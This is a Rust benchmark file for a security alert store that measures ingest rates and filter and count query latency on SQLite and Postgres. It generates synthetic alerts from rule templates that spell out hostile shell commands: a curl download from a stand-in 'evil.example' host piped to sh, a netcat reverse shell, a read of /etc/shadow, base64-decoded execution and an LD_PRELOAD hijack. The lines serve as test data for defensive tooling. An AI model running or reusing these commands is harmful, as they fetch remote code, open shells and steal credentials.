//! Store benchmark: ingest throughput and alert-list latency.
//!
//! ```text
//! PICKET_BENCH_ALERTS=1000000 cargo bench -p picket-store --bench store
//! ```
//!
//! Environment:
//! - `PICKET_BENCH_ALERTS`: alerts to store (default 1,000,000).
//! - `PICKET_BENCH_SQLITE_PATH`: keep the SQLite file there and reuse it when
//!   it already holds enough alerts (default: a temporary directory).
//! - `PICKET_TEST_POSTGRES_URL`: also run against Postgres (schema
//!   `picket_bench`, reused when it already holds enough alerts).
//! - `PICKET_BENCH_PG_ALERTS`: alerts for Postgres (default: as SQLite).
//! - `PICKET_BENCH_PG_WRITERS`: concurrent Postgres ingest tasks (default 2).
//! - `PICKET_BENCH_QUERIES`: iterations per query kind (default 200).
//! - `PICKET_BENCH_COUNT_QUERIES`: iterations per `alert_counts` kind
//!   (default: as `PICKET_BENCH_QUERIES`).
//! - `PICKET_BENCH_CALL_BATCHES`: 256-alert batches per `insert_alerts`
//!   call (default 1; the ingest coalesces up to 32).
//! - `PICKET_BENCH_VARIANTS`: instead of the above, insert rates of schema
//!   variants (`""`: all, or a comma list of numbers), each into a fresh
//!   file, `PICKET_BENCH_VARIANT_ALERTS` alerts (default 300,000), 8,192
//!   per transaction, two rounds.

use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::Context as _;
use picket_store::model::{
    AlertFilter, AlertSource, AlertStatus, AlertUpdate, Level, NewAlert, NewDevice,
};
use picket_store::postgres::PgStore;
use picket_store::sqlite::SqliteStore;
use picket_store::Store;

const BATCH: usize = 256;
const DEVICES: u64 = 3_000;
const T0: i64 = 1_700_000_000_000;
/// Mean gap between alerts: 10M alerts span ~12 days.
const STEP_MS: i64 = 100;

/// xorshift64*: deterministic, no dependency.
struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

struct Rule {
    id: &'static str,
    title: &'static str,
    level: Level,
    techniques: &'static [&'static str],
    image: &'static str,
    /// `{r}` becomes a random hex token, `{h}` a host, `{n}` a number.
    cmd: &'static str,
    path: Option<&'static str>,
}

macro_rules! rule {
    ($id:expr, $title:expr, $level:ident, [$($t:expr),*], $image:expr, $cmd:expr, $path:expr) => {
        Rule { id: $id, title: $title, level: Level::$level, techniques: &[$($t),*], image: $image, cmd: $cmd, path: $path }
    };
}

const RULES: &[Rule] = &[
    rule!(
        "lnx-curl-pipe-sh",
        "Download piped to shell",
        High,
        ["T1059.004", "T1105"],
        "/usr/bin/curl",
        "curl -fsSL http://{h}/{r}.sh | sh",
        None
    ),
    rule!(
        "lnx-wget-tmp",
        "Download to /tmp",
        Medium,
        ["T1105"],
        "/usr/bin/wget",
        "wget -q -O /tmp/{r} http://{h}/payload/{r}",
        Some("/tmp/{r}")
    ),
    rule!(
        "lnx-chmod-tmp",
        "Executable bit in /tmp",
        Medium,
        ["T1222.002"],
        "/bin/chmod",
        "chmod +x /tmp/{r}",
        Some("/tmp/{r}")
    ),
    rule!(
        "lnx-shadow-read",
        "Shadow file read",
        High,
        ["T1003.008"],
        "/bin/cat",
        "cat /etc/shadow",
        Some("/etc/shadow")
    ),
    rule!(
        "lnx-nc-shell",
        "Netcat reverse shell",
        Critical,
        ["T1059.004", "T1095"],
        "/bin/nc",
        "nc -e /bin/sh 10.{n}.{n}.{n} 4444",
        None
    ),
    rule!(
        "lnx-cron-write",
        "Cron file written",
        Medium,
        ["T1053.003"],
        "/usr/bin/crontab",
        "crontab /tmp/{r}.cron",
        Some("/etc/cron.d/{r}")
    ),
    rule!(
        "lnx-ssh-keys",
        "SSH authorized_keys changed",
        High,
        ["T1098.004"],
        "/usr/bin/tee",
        "tee -a /root/.ssh/authorized_keys",
        Some("/root/.ssh/authorized_keys")
    ),
    rule!(
        "lnx-python-pty",
        "Python pty spawn",
        High,
        ["T1059.006"],
        "/usr/bin/python3",
        "python3 -c import pty;pty.spawn('/bin/bash') # {r}",
        None
    ),
    rule!(
        "lnx-base64-exec",
        "Base64 decoded execution",
        High,
        ["T1140", "T1059.004"],
        "/bin/bash",
        "bash -c echo {r}{r}{r} | base64 -d | bash",
        None
    ),
    rule!(
        "lnx-sudo-shell",
        "Sudo to shell",
        Low,
        ["T1548.003"],
        "/usr/bin/sudo",
        "sudo -s -u root # session {n}",
        None
    ),
    rule!(
        "lnx-useradd",
        "User account created",
        Medium,
        ["T1136.001"],
        "/usr/sbin/useradd",
        "useradd -m -s /bin/bash svc{r}",
        Some("/etc/passwd")
    ),
    rule!(
        "lnx-kmod-load",
        "Kernel module loaded",
        High,
        ["T1547.006"],
        "/sbin/insmod",
        "insmod /lib/modules/{r}.ko",
        Some("/lib/modules/{r}.ko")
    ),
    rule!(
        "lnx-history-clear",
        "Shell history cleared",
        Medium,
        ["T1070.003"],
        "/bin/rm",
        "rm -f /root/.bash_history",
        Some("/root/.bash_history")
    ),
    rule!(
        "lnx-proc-discovery",
        "Process discovery",
        Informational,
        ["T1057"],
        "/bin/ps",
        "ps auxww",
        None
    ),
    rule!(
        "lnx-net-discovery",
        "Network configuration discovery",
        Informational,
        ["T1016"],
        "/sbin/ip",
        "ip addr show dev eth{n}",
        None
    ),
    rule!(
        "lnx-systemd-unit",
        "Systemd unit created",
        Medium,
        ["T1543.002"],
        "/bin/systemctl",
        "systemctl enable {r}.service",
        Some("/etc/systemd/system/{r}.service")
    ),
    rule!(
        "lnx-ld-preload",
        "LD_PRELOAD set",
        Critical,
        ["T1574.006"],
        "/usr/bin/env",
        "env LD_PRELOAD=/tmp/{r}.so /bin/ls",
        Some("/etc/ld.so.preload")
    ),
    rule!(
        "lnx-dns-tunnel",
        "Long DNS query",
        Low,
        ["T1071.004"],
        "/usr/bin/dig",
        "dig {r}{r}.{h} TXT",
        None
    ),
    rule!(
        "lnx-ssh-brute",
        "SSH login failures",
        Low,
        ["T1110.001"],
        "/usr/sbin/sshd",
        "sshd: invalid user admin{n} from 10.0.{n}.{n}",
        None
    ),
    rule!(
        "lnx-file-discovery",
        "Sensitive file discovery",
        Informational,
        ["T1083"],
        "/usr/bin/find",
        "find / -name id_rsa -o -name *.pem # {n}",
        None
    ),
];

/// Rule pick, weighted so informational/low/medium dominate like a fleet.
fn pick_rule(rng: &mut Rng) -> &'static Rule {
    let x = rng.below(100);
    let i = match x {
        0..=19 => 13,
        20..=34 => 14,
        35..=44 => 19,
        45..=54 => 18,
        55..=60 => 9,
        61..=65 => 17,
        66..=70 => 1,
        71..=74 => 2,
        75..=77 => 5,
        78..=80 => 10,
        81..=83 => 12,
        84..=85 => 15,
        86..=87 => 0,
        88..=89 => 3,
        90..=91 => 6,
        92..=93 => 7,
        94..=95 => 8,
        96..=97 => 11,
        98 => 4,
        _ => 16,
    };
    &RULES[i]
}

const HOSTS: &[&str] = &[
    "cdn.example.net",
    "update.example.org",
    "evil.example",
    "files.example.com",
];

fn fill(template: &str, rng: &mut Rng) -> String {
    let mut out = String::with_capacity(template.len() + 32);
    let mut rest = template;
    while let Some(i) = rest.find('{') {
        out.push_str(&rest[..i]);
        let tag = &rest[i..i + 3];
        match tag {
            "{r}" => out.push_str(&format!("{:08x}", rng.next() as u32)),
            "{h}" => out.push_str(HOSTS[rng.below(HOSTS.len() as u64) as usize]),
            "{n}" => out.push_str(&rng.below(255).to_string()),
            _ => out.push_str(tag),
        }
        rest = &rest[i + 3..];
    }
    out.push_str(rest);
    out
}

fn device_id(d: u64) -> String {
    format!("{:032x}", 0xd000_0000_0000_0000_u128 + u128::from(d))
}

/// Batch `b` of the fill: 256 alerts of one device (as one uplink batch).
fn batch(b: u64, rng: &mut Rng) -> Vec<NewAlert> {
    let dev = b % DEVICES;
    (0..BATCH as u64)
        .map(|i| {
            let n = b * BATCH as u64 + i;
            let rule = pick_rule(rng);
            let cmd = fill(rule.cmd, rng);
            let path = rule.path.map(|p| fill(p, rng));
            let ts = T0 + i64::try_from(n).unwrap_or(0) * STEP_MS + i64::try_from(rng.below(5_000)).unwrap_or(0);
            let pid = rng.below(60_000);
            NewAlert {
                id: format!("{:032x}", (u128::from(rng.next()) << 64) | u128::from(n)),
                device_id: device_id(dev),
                seq: n,
                timestamp_ms: ts,
                received_ms: ts + 150,
                level: rule.level,
                source: if n.is_multiple_of(50) { AlertSource::Upload } else { AlertSource::Appliance },
                rule_id: rule.id.to_owned(),
                rule_title: rule.title.to_owned(),
                techniques: rule.techniques.iter().map(|t| (*t).to_owned()).collect(),
                image: Some(rule.image.to_owned()),
                command_line: Some(cmd.clone()),
                path: path.clone(),
                event: serde_json::json!({
                    "kind": "process_exec",
                    "host": format!("gw-{dev}"),
                    "process": {"pid": pid, "ppid": 1, "uid": 0, "image": rule.image, "command_line": cmd},
                    "file": path,
                }),
            }
        })
        .collect()
}

fn percentile(sorted: &[Duration], p: f64) -> Duration {
    if sorted.is_empty() {
        return Duration::ZERO;
    }
    let i = ((sorted.len() as f64 - 1.0) * p).round() as usize;
    sorted[i.min(sorted.len() - 1)]
}

fn ms(d: Duration) -> String {
    format!("{:.2}", d.as_secs_f64() * 1e3)
}

struct Row {
    name: String,
    p50: Duration,
    p99: Duration,
    rows: usize,
}

async fn ensure_filled(
    store: &Arc<dyn Store>,
    target: u64,
    writers: usize,
) -> anyhow::Result<Option<f64>> {
    let have = store.stats().await?.alerts;
    if have >= target {
        println!("  reusing {have} stored alerts");
        return Ok(None);
    }
    let devices = store.devices().await?.len() as u64;
    if devices < DEVICES {
        for d in 0..DEVICES {
            let _ = store
                .insert_device(NewDevice {
                    id: device_id(d),
                    hostname: format!("gw-{d}"),
                    public_key: vec![0; 32],
                    cert_serial: format!("{d:x}"),
                    agent_version: "1.0.0".into(),
                    enrolled_ms: T0,
                })
                .await;
        }
    }
    let first = have / BATCH as u64;
    let batches = target.div_ceil(BATCH as u64);
    let start = Instant::now();
    let cpu0 = process_cpu_secs();
    let next = Arc::new(std::sync::atomic::AtomicU64::new(first));
    let per_call = env_u64("PICKET_BENCH_CALL_BATCHES", 1).max(1);
    let mut tasks = Vec::new();
    for w in 0..writers {
        let store = Arc::clone(store);
        let next = Arc::clone(&next);
        tasks.push(tokio::spawn(async move {
            let mut rng = Rng(0x9e37_79b9_7f4a_7c15 ^ (w as u64 + 1));
            let mut inserted = 0u64;
            loop {
                let b = next.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                if b >= batches {
                    return anyhow::Ok(inserted);
                }
                rng.0 ^= b.wrapping_mul(0x1000_0000_01b3);
                let mut alerts = batch(b, &mut rng);
                // Several uplink batches per call, as the ingest coalesces them.
                for _ in 1..per_call {
                    let b = next.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                    if b >= batches {
                        break;
                    }
                    rng.0 ^= b.wrapping_mul(0x1000_0000_01b3);
                    alerts.extend(batch(b, &mut rng));
                }
                inserted += store.insert_alerts(&alerts).await?.inserted;
                if b.is_multiple_of(4_000) && w == 0 {
                    println!(
                        "  ... batch {b}/{batches} ({:.0}s)",
                        start.elapsed().as_secs_f64()
                    );
                }
            }
        }));
    }
    let mut inserted = 0;
    for t in tasks {
        inserted += t.await??;
    }
    let secs = start.elapsed().as_secs_f64();
    let rate = inserted as f64 / secs;
    // Process CPU: for Postgres only the client side, the server's is not counted.
    let cpu_us = (process_cpu_secs() - cpu0) / inserted.max(1) as f64 * 1e6;
    println!(
        "  inserted {inserted} alerts in {secs:.1}s: {rate:.0} alerts/s, {cpu_us:.1} us CPU/alert \
         in this process ({per_call} x {BATCH} alerts per call, {writers} writer(s))"
    );
    Ok(Some(rate))
}

async fn time_queries(store: &Arc<dyn Store>, n: u64, iters: usize) -> anyhow::Result<Vec<Row>> {
    // Some workflow state to filter on.
    let acked = AlertFilter {
        status: Some(AlertStatus::Acknowledged),
        ..Default::default()
    };
    if store.alerts(&acked, None, 1).await?.alerts.is_empty() {
        let mut after = None;
        let f = AlertFilter {
            rule_id: Some("lnx-shadow-read".into()),
            ..Default::default()
        };
        for _ in 0..10 {
            let page = store.alerts(&f, after, 100).await?;
            for a in &page.alerts {
                let u = AlertUpdate {
                    status: Some(AlertStatus::Acknowledged),
                    assignee: Some(Some("alice".into())),
                };
                store.update_alert(&a.alert.id, &u, T0).await?;
            }
            after = page.next;
        }
    }
    // A rare needle: a random token from an alert in the middle.
    let mid_ts = T0 + i64::try_from(n / 2).unwrap_or(0) * STEP_MS;
    let mid = store
        .alerts(
            &AlertFilter {
                until_ms: Some(mid_ts),
                rule_id: Some("lnx-wget-tmp".into()),
                ..Default::default()
            },
            None,
            1,
        )
        .await?;
    let rare = mid
        .alerts
        .first()
        .and_then(|a| a.alert.path.clone())
        .map(|p| p.trim_start_matches("/tmp/").to_uppercase())
        .unwrap_or_else(|| "deadbeef".into());
    let span = i64::try_from(n).unwrap_or(0) * STEP_MS;
    // Devices that have alerts (batch b comes from device b % DEVICES).
    let live = DEVICES.min((n / BATCH as u64).max(1));

    let mut rng = Rng(42);
    type Gen = Box<dyn Fn(&mut Rng) -> AlertFilter>;
    let rare2 = rare.clone();
    let kinds: Vec<(&str, Gen)> = vec![
        ("newest page", Box::new(|_| AlertFilter::default())),
        (
            "by device",
            Box::new(move |r| AlertFilter {
                device_id: Some(device_id(r.below(live))),
                ..Default::default()
            }),
        ),
        (
            "min level high",
            Box::new(|_| AlertFilter {
                min_level: Some(Level::High),
                ..Default::default()
            }),
        ),
        (
            "min level critical",
            Box::new(|_| AlertFilter {
                min_level: Some(Level::Critical),
                ..Default::default()
            }),
        ),
        (
            "by rule",
            Box::new(|r| AlertFilter {
                rule_id: Some(RULES[r.below(RULES.len() as u64) as usize].id.into()),
                ..Default::default()
            }),
        ),
        (
            "technique T1059 (parent)",
            Box::new(|_| AlertFilter {
                technique: Some("T1059".into()),
                ..Default::default()
            }),
        ),
        (
            "technique T1574.006 (rare)",
            Box::new(|_| AlertFilter {
                technique: Some("T1574.006".into()),
                ..Default::default()
            }),
        ),
        (
            "status acknowledged",
            Box::new(|_| AlertFilter {
                status: Some(AlertStatus::Acknowledged),
                ..Default::default()
            }),
        ),
        (
            "status new",
            Box::new(|_| AlertFilter {
                status: Some(AlertStatus::New),
                ..Default::default()
            }),
        ),
        (
            "source upload",
            Box::new(|_| AlertFilter {
                source: Some(AlertSource::Upload),
                ..Default::default()
            }),
        ),
        (
            "time range (1 h)",
            Box::new(move |r| {
                let s = T0
                    + i64::try_from(r.below(u64::try_from(span).unwrap_or(1).max(1))).unwrap_or(0);
                AlertFilter {
                    since_ms: Some(s),
                    until_ms: Some(s + 3_600_000),
                    ..Default::default()
                }
            }),
        ),
        (
            "device + min level medium",
            Box::new(move |r| AlertFilter {
                device_id: Some(device_id(r.below(live))),
                min_level: Some(Level::Medium),
                ..Default::default()
            }),
        ),
        (
            "text rare (token)",
            Box::new(move |_| AlertFilter {
                text: Some(rare2.clone()),
                ..Default::default()
            }),
        ),
        (
            "text common ('shadow')",
            Box::new(|_| AlertFilter {
                text: Some("SHADOW".into()),
                ..Default::default()
            }),
        ),
        (
            "text very common ('bin')",
            Box::new(|_| AlertFilter {
                text: Some("bin".into()),
                ..Default::default()
            }),
        ),
    ];
    let mut out = Vec::new();
    for (name, gen) in &kinds {
        let mut times = Vec::with_capacity(iters);
        let mut rows = 0;
        let heavy = name.starts_with("text");
        let count = if heavy { iters.min(50) } else { iters };
        for _ in 0..count {
            let f = gen(&mut rng);
            let t = Instant::now();
            let page = store.alerts(&f, None, 50).await?;
            times.push(t.elapsed());
            rows = page.alerts.len();
        }
        times.sort();
        out.push(Row {
            name: (*name).to_owned(),
            p50: percentile(&times, 0.5),
            p99: percentile(&times, 0.99),
            rows,
        });
    }
    // Second page via cursor.
    let mut times = Vec::with_capacity(iters);
    let mut rows = 0;
    for _ in 0..iters {
        let f = AlertFilter {
            device_id: Some(device_id(rng.below(live))),
            ..Default::default()
        };
        let first = store.alerts(&f, None, 50).await?;
        let t = Instant::now();
        let page = store.alerts(&f, first.next, 50).await?;
        times.push(t.elapsed());
        rows = page.alerts.len();
    }
    times.sort();
    out.push(Row {
        name: "second page (device, cursor)".into(),
        p50: percentile(&times, 0.5),
        p99: percentile(&times, 0.99),
        rows,
    });
    out.extend(time_counts(store, n, live).await?);
    println!("  rare needle: {rare:?}");
    Ok(out)
}

const HOUR_MS: i64 = 3_600_000;
const DAY_MS: i64 = 86_400_000;

/// The `alert_counts` calls of the web UI's overview (chart: unfiltered,
/// 1 h buckets over 24 h, 6 h over 7 days, 1 d over 30 days; "new, not
/// triaged": status new, one 31-day bucket) and the other filters the
/// counts endpoint takes (level, source, device). "Now" is the newest
/// alert; `since` is `now - range` shifted by a random part of an hour, as
/// the UI's `Date.now() - range` is never on a bucket edge.
async fn time_counts(store: &Arc<dyn Store>, n: u64, live: u64) -> anyhow::Result<Vec<Row>> {
    let iters = usize::try_from(env_u64(
        "PICKET_BENCH_COUNT_QUERIES",
        env_u64("PICKET_BENCH_QUERIES", 200),
    ))
    .unwrap_or(200)
    .max(1);
    let end = T0 + i64::try_from(n).unwrap_or(0) * STEP_MS;
    type Gen = Box<dyn Fn(&mut Rng) -> (AlertFilter, i64)>;
    let since = move |r: &mut Rng, range: i64| {
        end - range + i64::try_from(r.below(HOUR_MS as u64)).unwrap_or(0)
    };
    let kinds: Vec<(&str, Gen)> = vec![
        (
            "counts 24 h, 1 h buckets (overview chart)",
            Box::new(move |r| {
                let f = AlertFilter {
                    since_ms: Some(since(r, DAY_MS)),
                    ..Default::default()
                };
                (f, HOUR_MS)
            }),
        ),
        (
            "counts 24 h, status new, 31 d bucket (overview)",
            Box::new(move |r| {
                let f = AlertFilter {
                    since_ms: Some(since(r, DAY_MS)),
                    status: Some(AlertStatus::New),
                    ..Default::default()
                };
                (f, 31 * DAY_MS)
            }),
        ),
        (
            "counts 7 d, 6 h buckets (overview chart)",
            Box::new(move |r| {
                let f = AlertFilter {
                    since_ms: Some(since(r, 7 * DAY_MS)),
                    ..Default::default()
                };
                (f, 6 * HOUR_MS)
            }),
        ),
        (
            "counts 7 d, status new, 31 d bucket (overview)",
            Box::new(move |r| {
                let f = AlertFilter {
                    since_ms: Some(since(r, 7 * DAY_MS)),
                    status: Some(AlertStatus::New),
                    ..Default::default()
                };
                (f, 31 * DAY_MS)
            }),
        ),
        (
            "counts 30 d, 1 d buckets (overview chart)",
            Box::new(move |r| {
                let f = AlertFilter {
                    since_ms: Some(since(r, 30 * DAY_MS)),
                    ..Default::default()
                };
                (f, DAY_MS)
            }),
        ),
        (
            "counts 24 h, min level high, 1 h",
            Box::new(move |r| {
                let f = AlertFilter {
                    since_ms: Some(since(r, DAY_MS)),
                    min_level: Some(Level::High),
                    ..Default::default()
                };
                (f, HOUR_MS)
            }),
        ),
        (
            "counts 7 d, source upload, 6 h",
            Box::new(move |r| {
                let f = AlertFilter {
                    since_ms: Some(since(r, 7 * DAY_MS)),
                    source: Some(AlertSource::Upload),
                    ..Default::default()
                };
                (f, 6 * HOUR_MS)
            }),
        ),
        (
            "counts 24 h, one device, 1 h",
            Box::new(move |r| {
                let f = AlertFilter {
                    since_ms: Some(since(r, DAY_MS)),
                    device_id: Some(device_id(r.below(live))),
                    ..Default::default()
                };
                (f, HOUR_MS)
            }),
        ),
        (
            "counts 7 d, one device, 6 h",
            Box::new(move |r| {
                let f = AlertFilter {
                    since_ms: Some(since(r, 7 * DAY_MS)),
                    device_id: Some(device_id(r.below(live))),
                    ..Default::default()
                };
                (f, 6 * HOUR_MS)
            }),
        ),
    ];
    let mut rng = Rng(4242);
    let mut out = Vec::new();
    for (name, gen) in &kinds {
        let mut times = Vec::with_capacity(iters);
        let mut total = 0;
        for _ in 0..iters {
            let (f, bucket) = gen(&mut rng);
            let t = Instant::now();
            let counts = store.alert_counts(&f, bucket).await?;
            times.push(t.elapsed());
            total = counts.iter().map(|c| c.count).sum::<u64>();
        }
        times.sort();
        out.push(Row {
            name: format!("{name} ({iters} runs)"),
            p50: percentile(&times, 0.5),
            p99: percentile(&times, 0.99),
            rows: usize::try_from(total).unwrap_or(usize::MAX),
        });
    }
    Ok(out)
}

/// Baselines on the same SQLite file, bypassing the store's indexes.
fn sqlite_baselines(path: &std::path::Path) -> anyhow::Result<Vec<Row>> {
    let c =
        rusqlite::Connection::open_with_flags(path, rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY)?;
    let mut out = Vec::new();
    let mut run = |name: &str, sql: &str, iters: usize| -> anyhow::Result<()> {
        let mut times = Vec::new();
        let mut rows = 0;
        for _ in 0..iters {
            let t = Instant::now();
            let mut s = c.prepare_cached(sql)?;
            rows = s.query_map([], |r| r.get::<_, i64>(0))?.count();
            times.push(t.elapsed());
        }
        times.sort();
        out.push(Row {
            name: name.to_owned(),
            p50: percentile(&times, 0.5),
            p99: percentile(&times, 0.99),
            rows,
        });
        Ok(())
    };
    run(
        "baseline: min level high, NOT INDEXED + sort",
        "SELECT row FROM alerts NOT INDEXED WHERE level >= 3 ORDER BY timestamp_ms DESC, row DESC LIMIT 50",
        3,
    )?;
    run(
        "baseline: min level high, one range query",
        "SELECT row FROM alerts WHERE level >= 3 ORDER BY timestamp_ms DESC, row DESC LIMIT 50",
        3,
    )?;
    run(
        "baseline: text 'shadow' via LIKE scan",
        "SELECT row FROM alerts WHERE command_line LIKE '%shadow%' OR image LIKE '%shadow%' OR path LIKE '%shadow%' ORDER BY timestamp_ms DESC, row DESC LIMIT 50",
        3,
    )?;
    // `alert_counts` as it was before the rollup: one scan of the range.
    let end: i64 = c.query_row("SELECT max(timestamp_ms) FROM alerts", [], |r| r.get(0))?;
    let scan = |since: i64, bucket: i64, status: &str| {
        format!(
            "SELECT timestamp_ms - (((timestamp_ms % {bucket}) + {bucket}) % {bucket}) AS bucket, \
             level, count(*) FROM alerts a WHERE timestamp_ms >= {since}{status} \
             GROUP BY bucket, level"
        )
    };
    run(
        "baseline: counts 24 h, 1 h buckets, by scan",
        &scan(end - DAY_MS + HOUR_MS / 2, HOUR_MS, ""),
        3,
    )?;
    run(
        "baseline: counts 24 h, status new, 31 d bucket, by scan",
        &scan(end - DAY_MS + HOUR_MS / 2, 31 * DAY_MS, " AND status = 0"),
        3,
    )?;
    run(
        "baseline: counts 7 d, 6 h buckets, by scan",
        &scan(end - 7 * DAY_MS + HOUR_MS / 2, 6 * HOUR_MS, ""),
        3,
    )?;
    run(
        "baseline: rare token via LIKE scan",
        "SELECT row FROM alerts WHERE command_line LIKE '%0badf00d%' OR image LIKE '%0badf00d%' OR path LIKE '%0badf00d%' ORDER BY timestamp_ms DESC, row DESC LIMIT 50",
        3,
    )?;
    Ok(out)
}

/// `alert_counts` as it was before the rollup (one scan of the range), on
/// the bench's Postgres schema.
async fn pg_baselines(url: &str) -> anyhow::Result<Vec<Row>> {
    let (c, conn) = tokio_postgres::connect(url, tokio_postgres::NoTls).await?;
    tokio::spawn(conn);
    c.batch_execute("SET search_path = picket_bench, public")
        .await?;
    let end: i64 = c
        .query_one("SELECT max(timestamp_ms) FROM alerts", &[])
        .await?
        .try_get(0)?;
    let mut out = Vec::new();
    for (name, since, bucket, status) in [
        (
            "baseline: counts 24 h, 1 h buckets, by scan",
            end - DAY_MS,
            HOUR_MS,
            "",
        ),
        (
            "baseline: counts 24 h, status new, 31 d bucket, by scan",
            end - DAY_MS,
            31 * DAY_MS,
            " AND status = 0",
        ),
        (
            "baseline: counts 7 d, 6 h buckets, by scan",
            end - 7 * DAY_MS,
            6 * HOUR_MS,
            "",
        ),
    ] {
        let sql = format!(
            "SELECT timestamp_ms - (((timestamp_ms % {bucket}) + {bucket}) % {bucket}) AS bucket, \
             level, count(*) FROM alerts a WHERE timestamp_ms >= {}{status} GROUP BY bucket, level",
            since + HOUR_MS / 2
        );
        let mut times = Vec::new();
        let mut rows = 0;
        for _ in 0..3 {
            let t = Instant::now();
            rows = c.query(&sql, &[]).await?.len();
            times.push(t.elapsed());
        }
        times.sort();
        out.push(Row {
            name: name.to_owned(),
            p50: percentile(&times, 0.5),
            p99: percentile(&times, 0.99),
            rows,
        });
    }
    Ok(out)
}

/// Raw insert ceiling: the same alerts into one table with no secondary
/// index and no FTS, same pragmas, one transaction per batch.
fn sqlite_raw_insert(dir: &std::path::Path, n: u64) -> anyhow::Result<f64> {
    let path = dir.join("raw-baseline.db");
    let _ = std::fs::remove_file(&path);
    let c = rusqlite::Connection::open(&path)?;
    c.execute_batch(
        "PRAGMA journal_mode = WAL; PRAGMA synchronous = NORMAL; \
         CREATE TABLE alerts (row INTEGER PRIMARY KEY, id TEXT NOT NULL, device_id TEXT, seq INTEGER, \
         timestamp_ms INTEGER, level INTEGER, rule_id TEXT, command_line TEXT, event TEXT);",
    )?;
    let mut rng = Rng(7);
    let batches = n.div_ceil(BATCH as u64);
    let mut total = Duration::ZERO;
    for b in 0..batches {
        let alerts = batch(b, &mut rng);
        let t = Instant::now();
        let tx = c.unchecked_transaction()?;
        {
            let mut s = tx.prepare_cached(
                "INSERT INTO alerts (id, device_id, seq, timestamp_ms, level, rule_id, command_line, event) \
                 VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8)",
            )?;
            for a in &alerts {
                s.execute(rusqlite::params![
                    a.id,
                    a.device_id,
                    a.seq as i64,
                    a.timestamp_ms,
                    a.level.as_i16(),
                    a.rule_id,
                    a.command_line,
                    serde_json::to_string(&a.event)?
                ])?;
            }
        }
        tx.commit()?;
        total += t.elapsed();
    }
    drop(c);
    for ext in ["", "-wal", "-shm"] {
        let _ = std::fs::remove_file(format!("{}{ext}", path.display()));
    }
    Ok((batches * BATCH as u64) as f64 / total.as_secs_f64())
}

/// One schema variant of the insert-path experiment.
struct Variant {
    name: &'static str,
    /// Indexes (and the FTS table, if any) on top of the base table.
    ddl: &'static str,
    /// How rows go into `alerts_fts`: 0 none, 3 three columns, 1 one
    /// concatenated column.
    fts_cols: u8,
    keys: bool,
}

const VARIANT_BASE: &str = "PRAGMA journal_mode = WAL; PRAGMA synchronous = NORMAL; \
    PRAGMA cache_size = -131072; PRAGMA temp_store = MEMORY; \
    CREATE TABLE alerts (row INTEGER PRIMARY KEY, id TEXT NOT NULL, device_id TEXT NOT NULL, \
    seq INTEGER NOT NULL, timestamp_ms INTEGER NOT NULL, received_ms INTEGER NOT NULL, \
    level INTEGER NOT NULL, source INTEGER NOT NULL, rule_id TEXT NOT NULL, rule_title TEXT NOT NULL, \
    techniques TEXT NOT NULL, image TEXT, command_line TEXT, path TEXT, event TEXT NOT NULL, \
    status INTEGER NOT NULL DEFAULT 0, assignee TEXT, updated_ms INTEGER NOT NULL); \
    CREATE TABLE alert_techniques (technique TEXT NOT NULL, timestamp_ms INTEGER NOT NULL, \
    row INTEGER NOT NULL, PRIMARY KEY (technique, timestamp_ms, row)) WITHOUT ROWID;";

const IDX_ALL: &str = "CREATE UNIQUE INDEX a_id ON alerts (id); CREATE INDEX a_time ON alerts (timestamp_ms); \
    CREATE INDEX a_dev ON alerts (device_id, timestamp_ms); CREATE INDEX a_lvl ON alerts (level, timestamp_ms); \
    CREATE INDEX a_rule ON alerts (rule_id, timestamp_ms); CREATE INDEX a_st ON alerts (status, timestamp_ms); \
    CREATE INDEX a_src ON alerts (source, timestamp_ms);";

fn variants() -> Vec<Variant> {
    const FTS3: &str = "CREATE VIRTUAL TABLE alerts_fts USING fts5 (image, command_line, path, \
        content = '', contentless_delete = 1, tokenize = 'trigram');";
    vec![
        Variant { name: "current: 7 indexes + keys + FTS5 trigram (3 cols)", ddl: "", fts_cols: 3, keys: true },
        Variant { name: "7 indexes + keys, no FTS", ddl: "", fts_cols: 0, keys: true },
        Variant { name: "7 indexes, no keys, no FTS", ddl: "", fts_cols: 0, keys: false },
        Variant { name: "no secondary index, no keys, no FTS", ddl: "-", fts_cols: 0, keys: false },
        Variant { name: "id + time only, no keys, no FTS", ddl: "CREATE UNIQUE INDEX a_id ON alerts (id); CREATE INDEX a_time ON alerts (timestamp_ms);", fts_cols: 0, keys: false },
        Variant { name: "7 indexes + keys + FTS trigram 3 cols, detail=none", ddl: "CREATE VIRTUAL TABLE alerts_fts USING fts5 (image, command_line, path, content = '', contentless_delete = 1, tokenize = 'trigram', detail = none);", fts_cols: 3, keys: true },
        Variant { name: "7 indexes + keys + FTS trigram 1 col, detail=none", ddl: "CREATE VIRTUAL TABLE alerts_fts USING fts5 (t, content = '', contentless_delete = 1, tokenize = 'trigram', detail = none);", fts_cols: 1, keys: true },
        Variant { name: "7 indexes + keys + FTS trigram 1 col, detail=none, columnsize=0, no delete", ddl: "CREATE VIRTUAL TABLE alerts_fts USING fts5 (t, content = '', tokenize = 'trigram', detail = none, columnsize = 0);", fts_cols: 1, keys: true },
        Variant { name: "FTS only (3 cols, as current), no index", ddl: FTS3, fts_cols: 3, keys: false },
        Variant { name: "id + time + device, no keys, no FTS", ddl: "CREATE UNIQUE INDEX a_id ON alerts (id); CREATE INDEX a_time ON alerts (timestamp_ms); CREATE INDEX a_dev ON alerts (device_id, timestamp_ms);", fts_cols: 0, keys: false },
        Variant { name: "time only, no keys, no FTS", ddl: "CREATE INDEX a_time ON alerts (timestamp_ms);", fts_cols: 0, keys: false },
        Variant { name: "5 indexes (no status/source) + keys, no FTS", ddl: "CREATE UNIQUE INDEX a_id ON alerts (id); CREATE INDEX a_time ON alerts (timestamp_ms); CREATE INDEX a_dev ON alerts (device_id, timestamp_ms); CREATE INDEX a_lvl ON alerts (level, timestamp_ms); CREATE INDEX a_rule ON alerts (rule_id, timestamp_ms);", fts_cols: 0, keys: true },
    ]
}

/// Insert rate of `n` bench alerts into a fresh file with `v`'s schema,
